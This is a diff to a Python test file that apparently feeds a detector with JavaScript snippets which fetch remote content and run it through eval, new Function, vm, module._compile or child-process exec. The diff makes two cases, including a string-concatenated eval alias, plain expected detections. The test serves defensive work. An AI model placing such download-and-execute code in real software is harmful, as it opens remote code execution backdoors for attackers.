@@ -21,10 +21,7 @@ def fault(reason: str) -> pytest.MarkDecorator:
     "source",
     [
         "fetch(url).then((r) => r.text()).then((t) => eval(t));",
-        pytest.param(
-            "fetch(url).then((r) => r.text()).then(eval);",
-            marks=fault("a callback that is eval itself"),
-        ),
+        "fetch(url).then((r) => r.text()).then(eval);",
         "fetch(url).then((r) => r.json()).then((j) => new Function(j.code)());",
         "async function f() { const r = await fetch(url); (0, eval)(await r.text()); }",
         "async function f() { const { data } = await require('axios').get(url); eval(data); }",
@@ -34,12 +31,9 @@ def fault(reason: str) -> pytest.MarkDecorator:
            r.on("end", () => new vm.Script(Buffer.concat(l).toString()).runInThisContext()); });""",
         """https.get(url, (r) => { let s = ""; r.on("data", (d) => (s += d));
            r.on("end", () => module._compile(Buffer.from(s, "hex").toString(), "a.js")); });""",
-        pytest.param(
-            """const get = (u) => new Promise((done) => https.get(u, (r) => { let s = "";
+        """const get = (u) => new Promise((done) => https.get(u, (r) => { let s = "";
            r.on("data", (d) => (s += d)); r.on("end", () => done(s)); }));
            const run = globalThis["ev" + "al"]; get(url).then((t) => run(t));""",
-            marks=fault("an alias of globalThis with a key that is put together"),
-        ),
         "const w = new WebSocket('wss://a.invalid'); w.onmessage = (m) => eval(m.data);",
         "const w = new WebSocket('wss://a.invalid'); w.on('message', (m) => cp.exec(`${m}`));",
         """class Channel { #ws; open() { this.#ws = new WebSocket('wss://a.invalid');
